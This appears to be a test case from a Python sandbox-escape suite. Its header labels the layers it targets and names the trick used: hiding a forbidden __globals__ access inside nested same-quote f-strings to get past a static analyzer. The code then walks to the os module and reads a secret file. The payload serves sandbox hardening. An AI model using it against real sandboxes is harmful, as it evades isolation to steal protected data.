# class: object graph walk
# technique: a forbidden attribute in an f-string in a field of an f-string, with the same quotes
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
f"{f"{f"{(g := quit.__init__.__globals__) and 1}"}"}"
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
